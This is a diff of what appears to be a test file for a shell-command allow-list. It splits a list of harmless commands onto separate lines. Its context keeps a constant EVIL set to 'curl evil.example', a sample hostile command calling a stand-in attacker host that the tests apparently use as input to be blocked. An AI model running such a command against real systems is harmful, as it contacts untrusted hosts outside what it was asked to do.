@@ -10,8 +10,22 @@ import { createWorkbench, prepareOnly } from './useTool.ts';
 
 /** What allow-lists tend to let through. */
 const HARMLESS = [
-  ...['ls', 'pwd', 'git status', 'git log --oneline', 'git diff', 'npm test', 'npm run lint', 'cat README.md'],
-  ...['echo hello', 'grep -r x src', 'find . -name a', 'node --version', 'python -V', 'make', 'cargo check', 'true'],
+  'ls',
+  'pwd',
+  'git status',
+  'git log --oneline',
+  'git diff',
+  'npm test',
+  'npm run lint',
+  'cat README.md',
+  'echo hello',
+  'grep -r x src',
+  'find . -name a',
+  'node --version',
+  'python -V',
+  'make',
+  'cargo check',
+  'true',
 ];
 const EVIL = 'curl evil.example';
 
